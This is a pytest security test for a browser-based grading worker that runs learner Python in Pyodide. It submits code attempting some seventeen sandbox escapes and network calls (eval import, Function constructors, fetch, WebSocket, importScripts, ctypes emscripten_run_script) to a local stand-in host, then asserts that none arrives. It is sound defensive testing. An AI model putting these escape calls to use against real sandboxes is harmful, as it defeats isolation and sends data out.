"""The grading worker makes no request after its boot, whatever the learner's code does.

The code (run as a submission) tries every way out it can reach: import() through eval, the Function
constructors, a string timer and pyodide.code.run_js, to the site's own server and to another host
(127.0.0.2, a second local server); importScripts, fetch, XMLHttpRequest, pyodide.http, Pyodide's package loader,
WebSocket, EventSource, nested workers, navigator.serviceWorker; and emscripten_run_script through ctypes. Both
servers record every request: none of these arrives, on each kind of host:

- a server that sends the worker's Content-Security-Policy (`build.py serve`, sitebuild/serve.py);
- a static host that sends no header (GitHub Pages), on the first visit: the worker withholds what evaluates
  a string;
- the same host once the service worker serves the site: it adds the policy, and refuses a worker's request
  for anything but the build's files.
"""

import http.server
import threading
import time
import urllib.request

import pytest

from conftest import PYTHON_READY_MS, seed_snapshot, wait_until_ready
from page_helpers import SOLUTION, grade_in_page
from sitebuild.serve import make_server

# Every attempt is printed with how it ended; the requests it would make carry "leak" in their URL.
ATTACKS = r"""
import asyncio, js, pyodide_js
import pyodide.code, pyodide.http

tried = []
def attempt(name, call):
    try:
        call()
        tried.append(f"{name}: called")
    except BaseException as exc:
        tried.append(f"{name}: {type(exc).__name__}")

def construct(name, *args):
    return lambda: getattr(js, name).new(*args)

same, other = "/index.html?leak-import", "OTHER/leak-import"
attempt("eval import", lambda: js.eval(f"import('{same}'); import('{other}')"))
attempt("eval json import", lambda: js.eval("import('/pyodide/pyodide-lock.json?leak', {with: {type: 'json'}})"))
attempt("Function", lambda: js.Function(f"return import('{other}')")())
attempt("a function's constructor", lambda: pyodide_js.loadPackage.constructor(f"return import('{other}')")())
attempt("pyodide tests' Function", lambda: pyodide_js._api.tests.Function(f"return import('{other}')")())
attempt("string timer", lambda: js.setTimeout(f"import('{other}')", 0))
attempt("run_js", lambda: pyodide.code.run_js(f"import('{other}')"))
attempt("importScripts", lambda: js.importScripts("OTHER/leak-script.js"))
attempt("fetch", lambda: js.fetch("OTHER/leak-fetch"))
attempt("XMLHttpRequest", lambda: construct("XMLHttpRequest")().open("GET", "OTHER/leak-xhr"))
attempt("pyfetch", lambda: asyncio.ensure_future(pyodide.http.pyfetch("OTHER/leak-pyfetch")))
attempt("open_url", lambda: pyodide.http.open_url("OTHER/leak-open-url"))
attempt("loadPackage", lambda: pyodide_js.loadPackage("OTHER/leak_package-1.0-py3-none-any.whl"))
attempt("WebSocket", construct("WebSocket", "ws://OTHERHOST/leak-websocket"))
attempt("EventSource", construct("EventSource", "OTHER/leak-event-source"))
attempt("Worker", construct("Worker", "/leak-worker.js"))
attempt("service worker", lambda: js.navigator.serviceWorker.register("/leak-service-worker.js"))
print("\n".join(tried))
"""
# Last on its own: Emscripten's emscripten_run_script evaluates its argument (a failure there ends the runtime).
RUN_SCRIPT = """
import ctypes
ctypes.CDLL(None).emscripten_run_script(b"import('/index.html?leak-run-script'); import('OTHER/leak-run-script')")
"""
NAMES = ["eval import", "eval json import", "Function", "a function's constructor", "pyodide tests' Function",
         "string timer", "run_js", "importScripts", "fetch", "XMLHttpRequest", "pyfetch", "open_url", "loadPackage",
         "WebSocket", "EventSource", "Worker", "service worker"]
SETTLE_S = 2  # for a request started by the code to reach a server


class Recorder:
    """The paths a server was asked for."""

    def __init__(self):
        self.paths = []
        self._lock = threading.Lock()

    def add(self, path):
        with self._lock:
            self.paths.append(path)

    def leaks(self):
        with self._lock:
            return [path for path in self.paths if "leak" in path]


@pytest.fixture(scope="module")
def other_host():
    """(base URL, Recorder): a server on 127.0.0.2 that answers anything, with CORS, and records it."""
    recorder = Recorder()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            recorder.add(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Cross-Origin-Resource-Policy", "cross-origin")
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.2", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.2:{server.server_address[1]}", recorder
    server.shutdown()
    server.server_close()


def recording_site(site_dir, worker_policy):
    """(server, Recorder): the site as `build.py serve` sends it, or (worker_policy False) as a static host
    that sends no header at all."""
    server = make_server(site_dir, "127.0.0.1", 0, isolate=worker_policy)
    handler = server.RequestHandlerClass.func
    recorder = Recorder()
    handler.log_request = lambda self, code="-", size="-": recorder.add(self.path)
    if not worker_policy:
        handler._worker_policy = lambda self, path: None
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, recorder


@pytest.fixture(params=["server with the policy", "static host, first visit", "static host, service worker"])
def site(request, site_dir):
    """(base URL, Recorder, kind)."""
    server, recorder = recording_site(site_dir, worker_policy=request.param == "server with the policy")
    yield f"http://127.0.0.1:{server.server_address[1]}", recorder, request.param
    server.shutdown()
    server.server_close()


def open_page(browser, base, python_snapshot, service_worker):
    """A new context's page on the exercise, Python ready (and the service worker in control, if asked)."""
    context = browser.new_context()
    seed_snapshot(context, base, python_snapshot)
    page = context.new_page()
    page.goto(f"{base}/exercises/sinusoidal_pe/")
    wait_until_ready(page)
    if service_worker:
        page.wait_for_function("navigator.serviceWorker.controller !== null", timeout=PYTHON_READY_MS)
        page.reload()
        wait_until_ready(page)
        assert page.evaluate("navigator.serviceWorker.controller !== null")
    return context, page


def test_the_grading_worker_makes_no_request_after_its_boot(browser, site, other_host, python_snapshot):
    base, site_requests, kind = site
    other, other_requests = other_host
    context, page = open_page(browser, base, python_snapshot, service_worker=kind.endswith("service worker"))
    try:
        host = other.removeprefix("http://")
        attacks = ATTACKS.replace("OTHERHOST", host).replace("OTHER", other)
        report = grade_in_page(page, attacks + SOLUTION)
        assert report["passed"], report  # the attacks did not stop the grading
        tried = dict(line.split(": ", 1) for line in report["stdout"].splitlines() if line.split(": ")[0] in NAMES)
        assert list(tried) == NAMES, report["stdout"]
        # What calls (a promise, a closed XMLHttpRequest, ...) must still have made no request.
        crashed = grade_in_page(page, RUN_SCRIPT.replace("OTHER", other) + SOLUTION)
        assert not crashed["passed"], crashed
        assert grade_in_page(page, SOLUTION)["passed"], "the next run boots as usual"
        time.sleep(SETTLE_S)
        assert site_requests.leaks() == [], f"{kind}: {tried}"
        assert other_requests.leaks() == [], f"{kind}: {tried}"
        if kind.endswith("service worker"):
            # What the policy leaves open (a file of the build with another query) the service worker refuses: a
            # worker without the policy (one the page makes from a blob, which the service worker controls too)
            # gets a network error; the page itself still reaches the server.
            refused = page.evaluate("""async () => {
                const code = `fetch("${location.origin}/pyodide/pyodide.js?leak-sw")`
                    + ".then(() => postMessage('reached'), () => postMessage('refused'))";
                const worker = new Worker(URL.createObjectURL(new Blob([code], {type: "text/javascript"})));
                const answer = await new Promise((resolve) => { worker.onmessage = ({data}) => resolve(data); });
                worker.terminate();
                return answer;
            }""")
            assert refused == "refused"
            assert site_requests.leaks() == []
            assert page.evaluate("fetch('/index.html?page').then((response) => response.ok)")
    finally:
        context.close()


def test_the_server_sends_the_worker_policy_with_the_worker_script(site_dir):
    server, _ = recording_site(site_dir, worker_policy=True)
    base = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        with urllib.request.urlopen(f"{base}/assets/worker.js?v=any") as response:
            policy = response.headers["Content-Security-Policy"]
        with urllib.request.urlopen(f"{base}/index.html") as response:
            assert response.headers["Content-Security-Policy"] is None
    finally:
        server.shutdown()
        server.server_close()
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
    assert directives["default-src"] == "'none'"
    assert directives["script-src"] == f"{base}/pyodide/pyodide.js {base}/pyodide/pyodide.asm.js 'wasm-unsafe-eval'"
    assert directives["worker-src"] == f"{base}/assets/worker.js"
    assert f"{base}/assets/grader-core.json" in directives["connect-src"].split()
    assert all(source.startswith(f"{base}/") for source in directives["connect-src"].split())
